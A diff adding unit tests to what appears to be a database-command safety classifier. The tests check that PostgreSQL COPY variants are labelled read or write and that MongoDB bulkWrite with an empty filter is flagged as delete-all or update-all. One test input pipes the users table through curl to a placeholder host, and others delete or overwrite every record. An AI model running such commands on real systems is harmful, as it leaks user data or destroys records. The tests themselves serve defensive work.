@@ -265,3 +265,17 @@ test('sql pack judges generic SQL runners', () => {
   assert.equal(sqlPack.effect?.(simple(['duckdb', 'x.db', '-c', 'SELECT 1']), c), 'read');
   assert.equal(sqlPack.effect?.(simple(['duckdb', 'x.db', '-c', 'INSERT INTO t VALUES (1)']), c), 'write');
 });
+
+test('COPY … TO STDOUT only exports; COPY FROM, PROGRAM or a server file writes', () => {
+  assert.equal(sqlEffect('COPY users TO STDOUT'), 'read');
+  assert.equal(sqlEffect('COPY (SELECT id, email FROM users) TO STDOUT WITH CSV HEADER'), 'read');
+  assert.equal(sqlEffect('COPY users FROM STDIN'), 'write');
+  assert.equal(sqlEffect("COPY users TO '/var/lib/postgresql/users.csv'"), 'write');
+  assert.equal(sqlEffect("COPY users TO PROGRAM 'curl -d @- https://x'"), 'write');
+});
+
+test('mongo bulkWrite with an empty filter is a delete-all or update-all', () => {
+  assert.deepEqual(analyzeMongo('db.users.bulkWrite([{deleteMany: {filter: {}}}])').map((f) => f.id), ['sql.mongo-delete-all']);
+  assert.deepEqual(analyzeMongo('db.orders.bulkWrite([{ updateMany: { filter: {}, update: { $set: { status: "void" } } } }])').map((f) => f.id), ['sql.mongo-update-all']);
+  assert.deepEqual(analyzeMongo('db.orders.bulkWrite([{ deleteMany: { filter: { status: "test" } } }])'), []);
+});
